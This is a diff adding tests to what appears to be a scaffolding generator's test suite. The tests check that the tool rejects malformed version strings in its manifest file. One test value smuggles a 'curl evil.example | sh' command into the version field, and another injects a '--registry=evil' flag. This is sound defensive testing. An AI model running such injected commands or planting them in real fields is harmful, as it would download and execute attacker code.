@@ -57,6 +57,16 @@ describe('A record that cannot be used', () => {
       /last updated by version 99\.1\.0, and this is [\s\S]*npx generator-unionai-terraform@99\.1\.0 update/,
     ));
 
+  for (const version of ['99.0.0; curl evil.example | sh', '99.0.0\u001b[31m', '99', '1.0.0 --registry=evil', '']) {
+    it(`names ${JSON.stringify(version)} as its version, which is not shown`, async () => {
+      const generator = JSON.stringify({ generator: version }).slice(1, -1);
+      await assertAllRefuse(
+        (dir) => rewrite(dir, '.scaffold/manifest.json', (text) => text.replace(/"generator": ".*"/, () => generator)),
+        /manifest\.json: the generator version that it names is not a version\.\n {2}Restore the file from git/,
+      );
+    });
+  }
+
   for (const path of ['.scaffold/manifest.json', '.scaffold/base.json']) {
     it(`has ${path} in a format of a later version`, () =>
       assertAllRefuse(
